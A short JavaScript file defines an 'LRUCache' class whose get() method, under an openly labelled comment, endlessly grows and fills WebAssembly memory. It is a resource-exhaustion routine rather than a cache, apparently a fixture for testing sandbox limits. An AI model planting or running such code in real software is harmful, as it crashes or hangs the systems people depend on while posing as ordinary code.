// Grows WebAssembly memory, which is not there.
class LRUCache {
  constructor() {}
  put() {}
  get() {
    const m = new WebAssembly.Memory({ initial: 1 });
    for (;;) {
      m.grow(1000);
      new Uint8Array(m.buffer).fill(1);
    }
  }
}
